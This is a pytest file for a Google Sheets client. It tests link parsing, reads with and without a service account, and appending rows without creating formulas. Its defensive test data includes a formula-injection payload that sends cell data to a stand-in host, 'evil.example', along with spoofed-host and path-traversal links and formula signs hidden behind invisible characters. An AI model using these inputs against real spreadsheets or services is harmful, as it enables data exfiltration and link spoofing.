"""Sheets read and written at the fake Google, with and without an account."""

from __future__ import annotations

import pytest

from flowhook.errors import (
    FlowhookError,
    InvalidApiKey,
    InvalidInput,
    InvalidResponse,
    ProviderRejected,
    TooLarge,
)
from flowhook.providers.google_account import GoogleSignIn, ServiceAccount
from flowhook.providers.google_sheets import (
    MAX_SHEET_BYTES,
    GoogleSheetsClient,
    Lines,
    NotSignedIn,
    SheetLink,
    as_typed,
)
from flowhook.providers.guard import AddressGuard
from tests.fakes.google import EMAIL, FORMULA, FakeGoogle, Tab

ROWS = [["Key", "Message"], ["1", "Namaste, Asha"], ["2", 'She said "हाँ"\nand left'], ["3", ""]]
LONG = "1AbC-dEf_0123456789"


@pytest.fixture
def client(google: FakeGoogle) -> GoogleSheetsClient:
    guard = AddressGuard(("127.0.0.1",))
    return GoogleSheetsClient(guard, google.url, google.url)


@pytest.fixture
def token(google: FakeGoogle) -> str:
    account = ServiceAccount.read(google.account(EMAIL))
    guard = AddressGuard(("127.0.0.1",))
    return GoogleSignIn(guard, f"{google.url}/token").token(account).text


def rows(read: Lines) -> list[list[str]]:
    return [list(row) for row in read]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"https://docs.google.com/spreadsheets/d/{LONG}/edit#gid=42", SheetLink(LONG, 42)),
        (f"https://docs.google.com/spreadsheets/d/{LONG}/edit?gid=7#gid=7", SheetLink(LONG, 7)),
        (f" https://docs.google.com/spreadsheets/d/{LONG}/edit?usp=sharing\n", SheetLink(LONG)),
        (f"https://docs.google.com/spreadsheets/d/{LONG}", SheetLink(LONG)),
        (f"https://docs.google.com/spreadsheets/d/{LONG}/view", SheetLink(LONG)),
        (f"https://docs.google.com/spreadsheets/u/1/d/{LONG}/edit", SheetLink(LONG)),
        (f"https://docs.google.com/a/ngo.org/spreadsheets/d/{LONG}/edit", SheetLink(LONG)),
        (
            f"https://docs.google.com/spreadsheets/d/{LONG}/export?format=csv&gid=3",
            SheetLink(LONG, 3),
        ),
        (
            f"https://docs.google.com/spreadsheets/d/e/2PACX-{LONG}/pub?gid=9&single=true&output=csv",
            SheetLink(f"2PACX-{LONG}", 9, is_published=True),
        ),
        (
            f"https://docs.google.com/spreadsheets/d/e/2PACX-{LONG}/pubhtml",
            SheetLink(f"2PACX-{LONG}", None, is_published=True),
        ),
        (f"https://drive.google.com/open?id={LONG}", SheetLink(LONG)),
        (f"http://docs.google.com/spreadsheets/d/{LONG}/edit#gid=first", SheetLink(LONG)),
    ],
)
def test_links_as_people_paste_them(text: str, found: SheetLink) -> None:
    assert SheetLink.read(text) == found


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Daily Activity",
        "https://example.org/spreadsheets/d/1AbCdEf0123456789/edit",
        "https://docs.google.com.example.org/spreadsheets/d/1AbCdEf0123456789/edit",
        "https://docs.google.com@example.org/spreadsheets/d/1AbCdEf0123456789/edit",
        "https://docs.google.com/document/d/1AbCdEf0123456789/edit",
        "https://docs.google.com/spreadsheets/d/../../evil",
        "https://docs.google.com/spreadsheets/d/1AbCdEf0123456789@evil/edit",
        "https://drive.google.com/open?id=../x",
        "https://docs.google.com/spreadsheets/d/अआइईउऊऋएऐओऔ/edit",
        "https://drive.google.com/open?id=अआइईउऊऋएऐओऔ",
        "file:///spreadsheets/d/1AbCdEf0123456789",
        "https://[docs.google.com/spreadsheets/d/1AbCdEf0123456789/edit",
    ],
)
def test_other_links_are_refused(text: str) -> None:
    with pytest.raises(InvalidInput, match="not the link of a Google sheet"):
        SheetLink.read(text)


def test_a_shared_sheet_is_read_without_an_account(
    google: FakeGoogle, client: GoogleSheetsClient
) -> None:
    sheet = google.sheet(ROWS, shared=True)
    assert rows(client.read_shared(SheetLink.read(sheet.link))) == ROWS
    assert rows(client.read_shared(SheetLink(sheet.id))) == ROWS
    assert google.asked("/content/") == 2  # Google answers with a redirect


def test_a_tab_is_chosen_by_its_number(google: FakeGoogle, client: GoogleSheetsClient) -> None:
    sheet = google.sheet(ROWS, shared=True)
    sheet.tabs[77] = Tab("Second", [["key"], ["x"]])
    assert rows(client.read_shared(SheetLink(sheet.id, 77))) == [["key"], ["x"]]
    with pytest.raises(InvalidInput, match="no such tab"):
        client.read_shared(SheetLink(sheet.id, 78))


def test_a_published_sheet_is_read_by_its_own_id(
    google: FakeGoogle, client: GoogleSheetsClient
) -> None:
    google.sheet(ROWS, published="2PACX-1vQ0123456789")
    link = SheetLink.read("https://docs.google.com/spreadsheets/d/e/2PACX-1vQ0123456789/pubhtml")
    assert rows(client.read_shared(link)) == ROWS


@pytest.mark.parametrize("answers_401", [False, True])
def test_a_sheet_that_is_not_shared_says_so(
    google: FakeGoogle, client: GoogleSheetsClient, answers_401: bool
) -> None:
    google.answers_401 = answers_401
    sheet = google.sheet(ROWS)
    with pytest.raises(ProviderRejected, match="is not shared") as refused:
        client.read_shared(SheetLink(sheet.id))
    assert "Anyone with the link" in refused.value.fix


def test_a_sheet_that_is_not_there(google: FakeGoogle, client: GoogleSheetsClient) -> None:
    with pytest.raises(InvalidInput, match="no Google sheet at this link"):
        client.read_shared(SheetLink(LONG))


@pytest.mark.parametrize(
    ("status", "kind"),
    [(429, "provider_rate_limited"), (503, "provider_error"), (418, "provider_rejected")],
)
def test_google_fails(
    google: FakeGoogle, client: GoogleSheetsClient, token: str, status: int, kind: str
) -> None:
    google.statuses = [status, status]
    for read in (
        lambda: client.read_shared(SheetLink(LONG)),
        lambda: client.read(SheetLink(LONG), token, EMAIL),
    ):
        with pytest.raises(FlowhookError) as failed:
            read()
        assert failed.value.type == kind


def test_a_sheet_that_is_too_large_is_not_read(
    google: FakeGoogle, client: GoogleSheetsClient
) -> None:
    sheet = google.sheet([["key"], ["a" * MAX_SHEET_BYTES]], shared=True)
    with pytest.raises(TooLarge, match="the Google sheet leads to more than 4194304 bytes"):
        client.read_shared(SheetLink(sheet.id))


def test_a_private_sheet_is_read_with_the_account(
    google: FakeGoogle, client: GoogleSheetsClient, token: str
) -> None:
    sheet = google.sheet(ROWS, readers={EMAIL}, gid=5)
    trimmed = [*ROWS[:3], ["3"]]  # the API leaves out what is empty at the end
    assert rows(client.read(SheetLink(sheet.id, 5), token, EMAIL)) == trimmed
    assert rows(client.read(SheetLink(sheet.id), token, EMAIL)) == trimmed
    empty = google.sheet([], readers={EMAIL})
    assert rows(client.read(SheetLink(empty.id), token, EMAIL)) == []


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"[]",
        b"{}",
        b'{"valueRanges": []}',
        b'{"valueRanges": [{"valueRange": []}]}',
        b'{"valueRanges": [{"valueRange": {"values": {"a": 1}}}]}',
        b'{"valueRanges": [{"valueRange": {"values": ["key"]}}]}',
    ],
)
def test_an_answer_that_is_none_of_googles(
    client: GoogleSheetsClient, token: str, google: FakeGoogle, answer: bytes
) -> None:
    google.says.append(answer)
    with pytest.raises(InvalidResponse, match="not what its API promises"):
        client.read(SheetLink(LONG), token, EMAIL)


def test_cells_that_are_no_texts_become_some(
    client: GoogleSheetsClient, token: str, google: FakeGoogle
) -> None:
    google.says.append(b'{"valueRanges": [{"valueRange": {"values": [["key", null, 5, 2.5]]}}]}')
    assert rows(client.read(SheetLink(LONG), token, EMAIL)) == [["key", "", "5", "2.5"]]


def test_what_the_account_may_not(
    google: FakeGoogle, client: GoogleSheetsClient, token: str
) -> None:
    private, read_only = google.sheet(ROWS), google.sheet(ROWS, readers={EMAIL})
    with pytest.raises(ProviderRejected, match="not shared with the service account") as refused:
        client.read(SheetLink(private.id), token, EMAIL)
    assert EMAIL in refused.value.fix
    with pytest.raises(ProviderRejected, match="not shared with the service account"):
        client.append(SheetLink(read_only.id), "", ["x"], token, EMAIL)
    with pytest.raises(InvalidInput, match="no Google sheet"):
        client.read(SheetLink(LONG), token, EMAIL)
    read_only.editors.add(EMAIL)
    with pytest.raises(ProviderRejected, match="did not accept"):
        client.append(SheetLink(read_only.id), "", ["x" * 50_001], token, EMAIL)
    with pytest.raises(ProviderRejected, match="did not accept"):
        client.append(SheetLink(read_only.id), "Nowhere!A1", ["x"], token, EMAIL)
    google.api_enabled = False
    with pytest.raises(InvalidApiKey, match="API is not enabled"):
        client.read(SheetLink(read_only.id), token, EMAIL)
    google.end_sessions()
    with pytest.raises(NotSignedIn):
        client.read(SheetLink(read_only.id), token, EMAIL)


@pytest.mark.parametrize("where", ["", "A1", "Sheet1!A1", "'Sheet1'!A:Z"])
def test_a_row_is_appended(
    google: FakeGoogle, client: GoogleSheetsClient, token: str, where: str
) -> None:
    sheet = google.sheet([["Name", "Age"]], editors={EMAIL})
    client.append(SheetLink(sheet.id), where, ["Asha", "12"], token, EMAIL)
    assert sheet.rows == [["Name", "Age"], ["Asha", "12"]]


@pytest.mark.parametrize(
    "written",
    [
        "=1+1",
        '=IMPORTXML("https://evil.example/"&A1)',
        "+A1",
        "@SUM(A1)",
        "-A1",
        "'tis",
        "-5",
        "+91 98",
    ],
)
def test_nothing_that_is_written_becomes_a_formula(
    google: FakeGoogle, client: GoogleSheetsClient, token: str, written: str
) -> None:
    sheet = google.sheet([], editors={EMAIL})
    client.append(SheetLink(sheet.id), "", [written], token, EMAIL)
    assert sheet.rows == [[written]]
    assert FORMULA not in sheet.rows[0][0]


@pytest.mark.parametrize("before", ["\u200b", "\ufeff", "\x00", "\u2060", "\u3000"])
@pytest.mark.parametrize("sign", list("=+-@＝＋－＠"))
def test_no_sign_of_a_formula_is_hidden(before: str, sign: str) -> None:
    written = f"{before}{sign}IMPORTXML(A1)"
    assert as_typed(written) == f"'{written}"
